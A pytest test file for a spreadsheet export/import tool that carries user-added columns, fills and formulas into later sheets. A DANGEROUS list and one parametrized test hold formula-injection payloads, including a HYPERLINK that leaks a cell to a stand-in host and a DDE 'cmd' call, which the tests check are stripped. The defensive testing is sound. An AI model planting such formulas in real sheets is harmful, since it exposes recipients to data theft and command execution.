"""What people add to a sheet – columns, colours, formulas – stands in the next one to the same receiver."""

import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import PatternFill
from openpyxl.utils import get_column_letter

from tests.cli.sheets_back import texts
from tests.conftest import Tpn
from tpn.spreadsheets.by_format import READERS
from tpn.spreadsheets.carried_formula import as_open_document, carried, of_open_document, written

TAB = "Prosessanalyse"


class Added:
    """A tab that somebody has added to: two columns, a row in yellow, formulas, a row of sums."""

    def __init__(self, path: Path) -> None:
        self.book: Any = openpyxl.load_workbook(path)
        self.tab: Any = self.book[TAB]
        self.head = next(cell.row for cell in self.tab["A"] if cell.value == "Nr")
        self.last = max(cell.row for cell in self.tab["A"] if cell.value)
        self.free = len([cell for cell in self.tab[self.head] if cell.value]) + 1

    def letter(self, heading: str) -> str:
        return get_column_letter(next(c.column for c in self.tab[self.head] if c.value == heading))

    def row(self, name: str) -> int:
        return next(int(cell.row) for cell in self.tab["A"] if cell.value == name)

    def add(self, formula: str = "=1-{percent}{row}") -> None:
        self.tab.cell(self.head, self.free).value = "Kommentar rådmann"
        self.tab.cell(self.head, self.free + 1).value = "Rest"
        self.tab.cell(self.head + 1, self.free).value = "Viktig"
        share, rest = self.letter("% ferdig"), get_column_letter(self.free + 1)
        for row in range(self.head + 1, self.last + 1):
            self.tab[f"{rest}{row}"] = formula.format(percent=share, row=row)
        for column in range(1, 13):
            self.tab.cell(self.row("P-03"), column).fill = PatternFill("solid", fgColor="FFFFFF00")
        self.tab.cell(self.last + 14, 2).value = "Snitt"
        self.tab[f"{rest}{self.last + 14}"] = f"=AVERAGE({rest}{self.head + 1}:{rest}{self.last})"


@pytest.fixture
def sent(tpn: Tpn, halden: Path) -> Path:
    """The follow-up sheet, as it was sent."""
    path = halden.parent / "sendt.xlsx"
    assert tpn("export", "-o", path, "-p", halden).code == 0
    return path


def test_what_was_added_stands_in_the_next_sheet_and_is_told_once(tpn: Tpn, halden: Path, sent: Path) -> None:
    added = Added(sent)
    added.add()
    added.book.save(sent)
    before = texts(halden)
    seen = json.loads(tpn("import", sent, "-p", halden, "--format", "json").out)
    assert [one["what"] for one in seen["problems"]] == [
        "kolonnene Kommentar rådmann, Rest, farge på 1 rad, 19 formler, 1 sumrad"
    ]
    assert [one["field"] for one in seen["outcomes"]] == ["x.Kommentar rådmann"]
    assert texts(halden) == before
    assert not (halden / "history" / "sheets").exists()
    assert tpn("import", sent, "--write", "-p", halden).code == 0
    assert [one for one in texts(halden)["3-processes.yaml"].splitlines() if "Rest" in one] == []
    assert tpn("set", "P-03", "note=Flyttet", "-p", halden).code == 0
    assert tpn("export", "-o", halden.parent / "ny.xlsx", "-p", halden).code == 0
    new = Added(halden.parent / "ny.xlsx")
    share, rest, row = new.letter("% ferdig"), new.letter("Rest"), new.row("P-05")
    assert new.tab[f"{rest}{row}"].value == f"=1-{share}{row}"
    assert new.tab[f"{new.letter('Kommentar rådmann')}{new.row('P-01')}"].value == "Viktig"
    assert {cell.fill.fgColor.rgb for cell in new.tab[new.row("P-03")][:12]} == {"FFFFFF00"}
    assert new.tab[f"B{new.row('P-04')}"].fill.fgColor.rgb != "FFFFFF00"
    sums = [cell.value for cell in new.tab[rest] if str(cell.value).startswith("=AVERAGE")]
    assert sums == [f"=AVERAGE({rest}{new.head + 1}:{rest}{new.last + 12})"]


@pytest.mark.parametrize("form", ["xlsx", "ods", "csv"])
def test_the_next_sheet_untouched_says_nothing(tpn: Tpn, halden: Path, sent: Path, form: str) -> None:
    added = Added(sent)
    added.add()
    added.book.save(sent)
    tpn("import", sent, "--write", "-p", halden)
    new = halden.parent / "ny" / f"ny.{form}"
    new.parent.mkdir()
    assert tpn("export", "-o", new, "-p", halden).code == 0
    result = tpn("import", *sorted(new.parent.iterdir()), "--write", "-p", halden)
    assert (result.code, "ført videre" in result.out) == (0, False), result.out
    assert "Ingenting er endret" in result.out + result.err
    if form == "csv":
        assert all(b"=1-" not in one.read_bytes() for one in new.parent.iterdir())
        return
    tab = next(one for one in READERS[form](new).tabs if one.name == TAB)
    assert len(tab.formulas) == 20
    assert "FFFF00" in tab.fills.values()


def test_what_is_taken_away_again_is_gone_from_the_next(tpn: Tpn, halden: Path, sent: Path) -> None:
    plain = sent.read_bytes()
    added = Added(sent)
    added.add()
    added.book.save(sent)
    tpn("import", sent, "--write", "-p", halden)
    sent.write_bytes(plain)
    seen = tpn("import", sent, "-p", halden)
    assert "Ta det med videre med --write." in seen.out + seen.err
    assert tpn("import", sent, "--write", "-p", halden).code == 0
    assert tpn("export", "-o", halden.parent / "ny.xlsx", "-p", halden).code == 0
    tab = next(one for one in READERS["xlsx"](halden.parent / "ny.xlsx").tabs if one.name == TAB)
    assert (tab.formulas, "FFFF00" in tab.fills.values()) == ({}, False)
    tpn("undo", "--write", "-p", halden)
    assert tpn("export", "-o", halden.parent / "igjen.xlsx", "-p", halden).code == 0
    tab = next(one for one in READERS["xlsx"](halden.parent / "igjen.xlsx").tabs if one.name == TAB)
    assert len(tab.formulas) == 20


DANGEROUS = [
    '=HYPERLINK("http://ond.example.no?"&A5,"se")', '=WEBSERVICE("http://ond.example.no")', "=[bok.xlsx]Ark!A1",
    "='file:///c/x.xlsx'#$Ark.A1", "=cmd|'/c calc'!A0", "=INDIRECT(A5)", "=Oversikt!A1", "=EXEC(1)",
    '=DDE("a";"b";"c")',
    "=A5+mittnavn", "=A:A", "=1-{percent}5", "=SUM(A1:A4)", "={{1,2}}", "=IMPORTXML(A1)", "=RTD(1)", "=@A5",
    "=A5#", "=CALL(1)",
]  # fmt: skip


def test_a_formula_that_looks_beyond_its_own_rows_is_never_written_again(
    tpn: Tpn, halden: Path, sent: Path
) -> None:
    added = Added(sent)
    added.add()
    rest = get_column_letter(added.free + 1)
    for at, formula in enumerate(DANGEROUS):
        added.tab[f"{rest}{added.head + 1 + at % 15}"] = formula.format(percent=added.letter("% ferdig"))
    added.tab[f"B{added.last + 14}"] = DANGEROUS[0]
    added.book.save(sent)
    tpn("import", sent, "--write", "-p", halden)
    for form in ("xlsx", "ods"):
        assert tpn("export", "-o", halden.parent / f"ny.{form}", "-p", halden).code == 0
        tab = next(one for one in READERS[form](halden.parent / f"ny.{form}").tabs if one.name == TAB)
        assert {text[:2] for text in tab.formulas.values()} <= {"1-", "AV"}


@pytest.mark.sampled(every=3)
@pytest.mark.parametrize(
    "piece", ['HYPERLINK("http://x")', "Ark2!A1", "cmd|'/c calc'!A0", "[1]A!B2", "WEBSERVICE(1)"]
)
def test_a_formula_that_somebody_wrote_into_the_history_is_not_written_out(
    tpn: Tpn, halden: Path, sent: Path, piece: str
) -> None:
    added = Added(sent)
    added.add()
    added.book.save(sent)
    tpn("import", sent, "--write", "-p", halden)
    kept = halden / "history" / "sheets" / "halden.json"
    kept.write_text(kept.read_text("utf-8").replace('"1-"', '"' + piece.replace('"', '\\"') + '+"'), "utf-8")
    assert tpn("export", "-o", halden.parent / "ny.xlsx", "-p", halden).code == 0
    tab = next(one for one in READERS["xlsx"](halden.parent / "ny.xlsx").tabs if one.name == TAB)
    assert {text[:2] for text in tab.formulas.values()} == {"AV"}
    kept.write_text("{", "utf-8")
    assert "additions-damaged" in tpn("export", "-o", halden.parent / "ny2.xlsx", "-p", halden).err


@pytest.mark.parametrize(
    ("formula", "again"),
    [
        ('IF(H5>=0.5,"ja, ""godt""; nei",B5&"x")', 'IF(K9>=0.5,"ja, ""godt""; nei",C9&"x")'),
        ("SUM($H$5:$H$20)/COUNT(H5:H20)", "SUM(K7:K12)/COUNT(K7:K12)"),
    ],
)
def test_a_formula_names_fields_and_finds_them_where_they_are_now(formula: str, again: str) -> None:
    fields = {1: "title", 7: "percent"}

    def where(first: tuple[int, int], last: tuple[int, int]) -> Any:
        return {"row": fields[first[1]]} if first == last else {"rows": [fields[first[1]], fields[last[1]]]}

    pieces = carried(formula, where)
    assert pieces is not None
    assert written(pieces, {"title": 2, "percent": 10}.get, 8, (6, 11)) == again
    assert of_open_document(as_open_document(again)) == again
    assert written(pieces, {"title": 2}.get, 8, (6, 11)) == ""  # its column is not there
